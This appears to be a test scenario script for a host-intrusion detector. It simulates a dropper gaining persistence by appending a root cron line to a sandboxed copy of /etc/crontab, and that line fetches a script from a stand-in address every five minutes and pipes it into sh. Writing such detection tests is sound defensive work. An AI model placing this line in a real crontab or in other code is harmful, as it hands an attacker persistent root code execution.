#!/usr/bin/env bash
# cron: a dropper persists through a cron line in the (private copy of the)
# host's /etc/crontab, as `echo ... >> /etc/crontab` would.
set -euo pipefail
source "$(dirname "$0")/../lib.sh"
root=${PICKET_HOST_ROOT:?}
sleep 1
echo '*/5 * * * * root curl -s http://198.18.9.9/x.sh | sh' >>"$root/etc/crontab"
log "appended a cron line to $root/etc/crontab"
